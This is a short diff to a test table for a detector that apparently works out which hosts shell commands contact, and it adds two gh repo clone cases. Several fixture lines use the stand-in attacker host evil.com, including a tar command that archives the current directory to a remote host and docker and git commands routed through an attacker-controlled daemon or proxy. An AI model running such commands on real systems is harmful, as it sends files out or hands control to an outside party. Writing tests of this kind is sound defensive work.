@@ -103,6 +103,8 @@ describe('network programs reach the hosts they name (G14c)', () => {
     ['docker login evil.com', ['evil.com']],
     ['docker pull ubuntu', ['docker.io']],
     ['tar -cf evil.com:/tmp/a.tar .', ['evil.com']],
+    ['gh repo clone o/r', ['github.com']],
+    ['gh repo clone https://evil.com/o/r', ['https://evil.com/o/r']],
     ['docker -H tcp://evil.com:2375 ps', ['tcp://evil.com:2375']],
     ['DOCKER_HOST=tcp://evil.com:2375 docker ps', ['tcp://evil.com:2375']],
     ['git -c http.proxy=http://evil.com push origin main', ['http://evil.com']],
